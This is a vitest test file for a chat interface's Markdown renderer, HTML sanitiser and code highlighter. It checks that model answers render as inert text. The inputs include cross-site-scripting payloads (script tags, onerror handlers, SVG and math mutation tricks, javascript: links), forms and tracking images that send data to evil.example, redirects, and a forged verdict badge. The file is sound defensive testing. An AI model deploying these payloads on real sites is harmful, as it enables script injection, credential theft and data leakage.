// @vitest-environment jsdom
// happy-dom gives DOMPurify nothing to work with, and it then lets everything pass.
import { expect, test } from "vitest";
import { guessedLanguage, highlighted } from "../../../src/pages/chat/text/highlight";
import { prose, sanitised } from "../../../src/pages/chat/text/markdown";

const always = () => true;

function drawn(fragment: DocumentFragment | undefined): HTMLElement {
  const place = document.createElement("div");
  if (fragment) place.replaceChildren(fragment);
  return place;
}

const shown = (source: string) => drawn(prose(source));

/** Whatever could act, load, send, or look like the page. */
const FORBIDDEN =
  "script,style,img,svg,math,iframe,object,embed,form,input,button,textarea,select,base,meta,link,video,audio,template,dialog,details,[style],[id],[name],[role],[src],[data-verdict]";

function isHarmless(place: HTMLElement): boolean {
  if (place.querySelector(FORBIDDEN)) return false;
  return [...place.querySelectorAll("*")].every((element) =>
    [...element.attributes].every(({ name, value }) => !name.startsWith("on") && !/^\s*javascript:/i.test(value)),
  );
}

test("Markdown is drawn", () => {
  const place = shown("## Title\n\n**bold** `code` ~~gone~~\n\n3. three\n4. four\n\n- [x] done\n\n> said\n\n---");
  expect(place.querySelector("h4.level-2")?.textContent).toBe("Title");
  expect(place.querySelector("strong")?.textContent).toBe("bold");
  expect(place.querySelector("ol")?.getAttribute("start")).toBe("3");
  expect(place.textContent).toContain("☑ done");
  expect(place.querySelector("blockquote,hr")).not.toBeNull();
});

test("a table can be scrolled with the keyboard", () => {
  const place = shown("| a | b |\n|---|:-:|\n| 1 | <b>2</b> |");
  expect(place.querySelector("div.wide[tabindex='0'] table td")?.textContent).toBe("1");
  expect(place.querySelectorAll("td")[1]?.textContent).toBe("<b>2</b>");
});

test.each([
  ["a script", "<script>alert(1)</script>"],
  ["a script in the middle of a line", "text <script>alert(1)</script> text"],
  ["a handler", '<img src=x onerror="alert(1)">'],
  ["a drawing with a handler", "<svg onload=alert(1)><animate onbegin=alert(1)></svg>"],
  ["a form", '<form action="https://evil.example"><input name=key><button>Sign in</button></form>'],
  ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["a style", "<style>.verdict{display:none}</style><p style='position:fixed'>over the page</p>"],
  ["a base and a redirect", '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=//evil">'],
  ["a comment", "<!-- hidden --> <!--><img src=x onerror=alert(1)>-->"],
  ["broken nesting", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">'],
])("%s in an answer is text that can be read", (_, source) => {
  const place = shown(source);
  expect(isHarmless(place)).toBe(true);
  expect(place.textContent).toContain(source.slice(0, 5));
});

test.each([
  "![a picture](https://evil.example/track.png?prompt=secret)",
  "![a picture][1]\n\n[1]: https://evil.example/track.png",
  "[![nested](https://evil.example/a.png)](https://evil.example)",
])("no picture is loaded: %s", (source) => {
  const place = shown(source);
  expect(isHarmless(place)).toBe(true);
});

test.each([
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:x)",
  "[click](//evil.example)",
  "[click](/app/operate?stake=all)",
  "<javascript:alert(1)>",
])("%s leads nowhere", (source) => {
  expect(shown(source).querySelector("a")).toBeNull();
});

test("a link says where it leads, opens apart, and gives nothing away", () => {
  const place = shown("[your bank](https://evil.example/login) and [mail](mailto:a@b.example)");
  const link = place.querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://evil.example/login");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link?.getAttribute("target")).toBe("_blank");
  expect(place.textContent).toBe("your bank (evil.example) and mail (a@b.example)\n");
});

test("a link into this page is text: it would speak with the page's own voice", () => {
  const place = shown(`[Settings](${location.origin}/app/operate)`);
  expect(place.querySelector("a")).toBeNull();
});

test("an answer that imitates a verdict stays text without the page's looks", () => {
  const fake = '<div class="verdict" data-verdict="right" role="status"><strong>✓ Right</strong></div>';
  const place = shown(`${fake}\n\n# ✓ Right\nRecomputed to the last bit`);
  expect(place.querySelector("[data-verdict],[role],.verdict,h1,h2,h3")).toBeNull();
  expect(place.textContent).toContain('class="verdict"');
});

test("hidden characters are shown, in code and in links too", () => {
  const place = shown("`a\u202eb` [x\u200by](https://a.example)");
  expect(place.textContent).toContain("a⟦U+202E⟧b");
  expect(place.textContent).toContain("x⟦U+200B⟧y");
});

test("thousands of quotes within quotes are text, and no error", () => {
  const place = shown(">".repeat(4000) + " deep");
  expect(place.textContent).toContain("deep");
});

test("the second wall holds alone: of HTML only the short lists are left", () => {
  const place = drawn(
    sanitised(
      '<p id=x style="color:red" class="verdict level-1 hljs-keyword" onclick=a>t</p><img src=x onerror=a><a href="javascript:a" target="_top">l</a><form><input></form><svg><script>a</script></svg><div data-verdict=right tabindex=5>d</div>',
    ),
  );
  expect(isHarmless(place)).toBe(true);
  expect(place.querySelector("p")?.className).toBe("level-1 hljs-keyword");
  expect(place.querySelector("a")?.attributes).toHaveLength(0);
  expect(place.querySelector("div")?.hasAttribute("tabindex")).toBe(false);
});

test("code is marked, and stays text", async () => {
  const place = drawn(await highlighted('def f():\n    return "<img src=x onerror=alert(1)>"', "python", always));
  expect(place.querySelector(".hljs-keyword")?.textContent).toBe("def");
  expect(isHarmless(place)).toBe(true);
  expect(place.textContent).toBe('def f():\n    return "<img src=x onerror=alert(1)>"');
});

test("a language that is not known here is not marked", async () => {
  expect(await highlighted("x", "brainfuck", always)).toBeUndefined();
  expect(await highlighted("x", "constructor", always)).toBeUndefined();
});

test("a language is guessed where one is likely, and none for prose", async () => {
  const code = "import os\n\n\ndef walk(path: str) -> list[str]:\n    return [one for one in os.listdir(path)]\n";
  expect(await guessedLanguage(code, always)).toBe("python");
  expect(await guessedLanguage("It was a day like any other.", always)).toBe("");
});

test("pieces are marked one after the other, and the browser can draw in between", async () => {
  const order: string[] = [];
  const first = highlighted("x = 1", "python", always).then(() => {
    order.push("first");
    setTimeout(() => order.push("drawn"));
  });
  const second = highlighted("y = 2", "python", always).then(() => order.push("second"));
  await Promise.all([first, second]);
  expect(order).toEqual(["first", "drawn", "second"]);
});

test("what nobody looks at any more takes no turn of what is looked at", async () => {
  const order: string[] = [];
  const left = Array.from({ length: 200 }, (_, at) => highlighted(`x = ${at}`, "python", () => false));
  const wanted = highlighted("y = 2", "python", always).then(() => order.push("wanted"));
  let tasks = 0;
  const count = () => {
    tasks++;
    if (order.length === 0) setTimeout(count);
  };
  count();
  await wanted;
  expect(tasks).toBeLessThan(20);
  expect(await Promise.all(left)).toEqual(left.map(() => undefined));
  expect(await guessedLanguage("import os", () => false)).toBe("");
});
